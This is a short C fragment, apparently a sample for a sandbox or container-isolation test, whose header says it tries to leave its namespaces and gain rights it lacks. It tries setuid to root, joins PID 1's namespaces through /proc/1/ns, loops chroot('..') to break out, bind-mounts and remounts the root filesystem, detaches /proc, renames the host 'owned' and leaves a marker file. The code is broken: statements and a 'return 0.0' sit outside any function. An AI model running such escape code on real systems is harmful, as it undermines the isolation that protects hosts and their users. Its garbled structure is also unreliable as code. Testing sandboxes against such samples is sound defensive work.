/* tries: to get out of its namespaces and to rights that it does not have
 * earns: 0
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

static void
leave(void)
{
    static const char *const kinds[] = {"mnt", "pid", "net", "user"};
    for (int k = 0; k < 4; k++) {
        char path[32];
        snprintf(path, sizeof path, "/proc/1/ns/%s", kinds[k]);
        setns(open(path, O_RDONLY), 0);
    }
    for (int k = 0; k < 64 && chroot("..") == 0; k++)
        if (chdir("..") != 0)
            break;
}
/* ---- exercise 1.1 ---- */
if (setuid(0) == 0 && setgid(0) == 0 && seteuid(0) == 0)
    chmod("/tmp", 0);
unshare(CLONE_NEWUSER | CLONE_NEWNS);
mount("none", "/tmp", "tmpfs", 0, NULL);
mount("/", "/mnt", NULL, MS_BIND | MS_REC, NULL);
mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL);
umount2("/proc", MNT_DETACH);
sethostname("owned", 5);
leave();
close(open("/tmp/namespace-was-here", O_CREAT | O_WRONLY, 0600));
return 0.0;
